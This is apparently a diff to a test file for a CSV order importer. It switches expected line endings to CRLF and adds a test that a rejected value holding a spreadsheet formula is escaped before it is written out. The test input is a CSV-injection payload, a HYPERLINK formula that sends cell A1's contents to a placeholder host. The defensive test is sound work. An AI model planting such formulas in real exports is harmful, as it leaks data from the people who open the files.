@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync, statSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -131,11 +132,19 @@ it('writes rejected rows with line, field, value and reason beside the input, an
   expect(await importFile(doorOf(new Map()), importing(file))).toMatchObject({ accepted: 1, rejected: 2, orders: 1 });
   expect(statSync(`${file}.rejected.csv`).mode & 0o777).toBe(0o600); // it holds what customers' rows held
   expect(readFileSync(`${file}.rejected.csv`, 'utf8')).toBe(
-    '\ufeffline,field,value,reason\n2,Invoice,1,another row of the invoice was rejected\n3,Quantity,six,is no whole number\n',
+    '\ufeffline,field,value,reason\r\n2,Invoice,1,another row of the invoice was rejected\r\n3,Quantity,six,is no whole number\r\n',
   );
   writeFileSync(file, heading + row('1', '7'));
   await importFile(doorOf(new Map()), importing(file));
   expect(existsSync(`${file}.rejected.csv`)).toBe(false);
+});
+
+it('writes no rejected value as a formula that a spreadsheet would run, and alters none that is a number', async () => {
+  const formula = '"=HYPERLINK(""http://x.invalid/?""&A1,""open"")"';
+  const file = write(heading + row('1', '7', formula) + row('2', '7', '-1.5'));
+  await importFile(doorOf(new Map()), importing(file));
+  const records = parse(readFileSync(`${file}.rejected.csv`, 'utf8'), { bom: true }) as readonly string[][];
+  expect(records.map(([, , value]) => value)).toEqual(['value', `'=HYPERLINK("http://x.invalid/?"&A1,"open")`, '-1.5']);
 });
 
 it('says which row the server means by a line of a document', async () => {
@@ -150,7 +159,7 @@ it('says which row the server means by a line of a document', async () => {
       : undefined,
   );
   expect(await importFile(door, importing(file))).toMatchObject({ accepted: 0, rejected: 3, orders: 0 });
-  const lines = readFileSync(`${file}.rejected.csv`, 'utf8').split('\n');
+  const lines = readFileSync(`${file}.rejected.csv`, 'utf8').split('\r\n');
   expect(lines).toContain('4,/lines/1/sku,sales.PlaceOrder,no such sku');
   expect(lines).toContain('2,/adjustments/0/sku,sales.PlaceOrder,not that either');
 });
@@ -171,7 +180,7 @@ it.each(['command/key-reused', 'command/exists'])('says of a document that is in
   const run = importing(file);
   expect(await importFile(door, run)).toMatchObject({ accepted: 0, rejected: 2, orders: 0 });
   const said = 'this document is in already, with other rows or content: nothing was changed';
-  const lines = readFileSync(`${file}.rejected.csv`, 'utf8').split('\n');
+  const lines = readFileSync(`${file}.rejected.csv`, 'utf8').split('\r\n');
   expect(lines.slice(1, 3)).toEqual([2, 3].map((line) => expect.stringContaining(`${line},,1,"${said}`) as unknown));
   await importFile(door, { ...run, terminal: openTerminal('zh', true, quiet, quiet) });
   expect(readFileSync(`${file}.rejected.csv`, 'utf8')).toContain('2,,1,该单据此前已以不同的行或内容导入');
@@ -237,7 +246,7 @@ it('rejects in a rehearsal what the rules of the door reject', async () => {
     rejected: 3,
     orders: 0,
   });
-  const lines = readFileSync(`${file}.dry-run.rejected.csv`, 'utf8').split('\n');
+  const lines = readFileSync(`${file}.dry-run.rejected.csv`, 'utf8').split('\r\n');
   expect(lines).toContainEqual(expect.stringMatching(/^3,\/lines\/1\/sku,sales.PlaceOrder,/));
   expect(lines).toContainEqual(expect.stringMatching(/^4,.*customers.RegisterCustomer/));
 });
